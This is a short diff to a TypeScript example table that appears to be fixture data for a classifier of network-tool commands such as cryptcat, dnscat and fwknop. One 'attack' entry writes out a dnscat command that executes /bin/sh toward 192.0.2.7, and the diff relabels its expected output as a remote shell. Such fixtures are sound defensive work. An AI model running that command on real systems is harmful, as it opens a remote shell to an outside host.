@@ -87,7 +87,7 @@ export const remoteAccess1: ExampleTable = {
   cryptcat: { use: 'cryptcat db.example.org 80 → fetch db.example.org:80' },
   dnscat: {
     use: 'dnscat db.example.org → fetch db.example.org',
-    attack: 'dnscat --exec /bin/sh 192.0.2.7 → shell sh',
+    attack: 'dnscat --exec /bin/sh 192.0.2.7 → remote-shell 192.0.2.7',
   },
   dnscat2: { use: 'dnscat2 db.example.org → fetch db.example.org' },
   fwknop: { use: 'fwknop -A tcp/22 -a 192.0.2.9 -D db.example.org → send db.example.org' },
